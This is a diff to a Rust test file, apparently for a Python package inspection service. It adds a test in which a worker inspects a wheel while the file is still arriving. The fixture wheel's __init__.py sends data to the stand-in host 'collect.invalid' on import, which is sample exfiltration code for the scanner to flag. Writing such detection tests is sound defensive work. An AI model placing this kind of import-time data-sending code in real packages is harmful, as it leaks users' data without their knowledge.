@@ -2,6 +2,7 @@
 //! brings it down is told.
 
 use std::fs::File;
+use std::io::Write as _;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 use std::sync::Arc;
@@ -12,8 +13,11 @@ use portcullis_core::policy::Effect;
 use portcullis_core::pypi::filename::DistFilename;
 use portcullis_core::time::Timestamp;
 use portcullis_fixtures::{sdist, wheel};
+use portcullis_inspect::archive::Arrived;
 use portcullis_server::config::Overrides;
-use portcullis_server::inspection::protocol::{Answer, Confinement, Request};
+use portcullis_server::inspection::protocol::{
+    Answer, ArrivingFile, Confinement, Request, message,
+};
 use portcullis_server::inspection::{self, Look, Place, Subject};
 use portcullis_server::{App, Config};
 use serde_json::Value;
@@ -44,10 +48,63 @@ fn ask(path: &Path, filename: &str) -> Answer {
         project: None,
         millis: 60_000,
         memory: 1536 << 20,
+        arriving: None,
     };
     let output = worker(&serde_json::to_string(&request).unwrap(), Some(path));
     assert!(output.status.success(), "{output:?}");
     serde_json::from_slice(&output.stdout).unwrap()
+}
+
+#[test]
+fn a_worker_reads_a_file_while_it_arrives() {
+    let folder = TempDir::new().unwrap();
+    let wheel = wheel("demo", "1.0").payload(600_000).file(
+        "demo/__init__.py",
+        "import urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=b'x')\n",
+    );
+    let bytes = wheel.build();
+    let path = put(&folder, &wheel.filename(), &bytes);
+    let Answer::Inspected { inspection, .. } = ask(&path, &wheel.filename()) else {
+        panic!("it can be read");
+    };
+    let arriving = put(&folder, "arriving", b"");
+    let request = Request {
+        filename: wheel.filename(),
+        project: None,
+        millis: 60_000,
+        memory: 1536 << 20,
+        arriving: Some(ArrivingFile {
+            path: arriving.clone(),
+            total: bytes.len() as u64,
+        }),
+    };
+    let mut worker = Command::new(PROGRAM)
+        .args(["inspect-worker", &serde_json::to_string(&request).unwrap()])
+        .env_clear()
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut told = worker.stdin.take().unwrap();
+    let mut file = File::options().append(true).open(&arriving).unwrap();
+    let mut so_far = 0;
+    for piece in bytes.chunks(50_000) {
+        file.write_all(piece).unwrap();
+        so_far += piece.len() as u64;
+        told.write_all(&message(Arrived::SoFar(so_far))).unwrap();
+    }
+    told.write_all(&message(Arrived::Whole(so_far))).unwrap();
+    let output = worker.wait_with_output().unwrap();
+    let answer: Answer = serde_json::from_slice(&output.stdout).unwrap();
+    let Answer::Inspected {
+        inspection: along, ..
+    } = answer
+    else {
+        panic!("{answer:?}");
+    };
+    assert!(!along.inspected.observations.is_empty());
+    assert_eq!(along.inspected, inspection.inspected);
+    assert_eq!(along.contents, inspection.contents);
 }
 
 #[test]
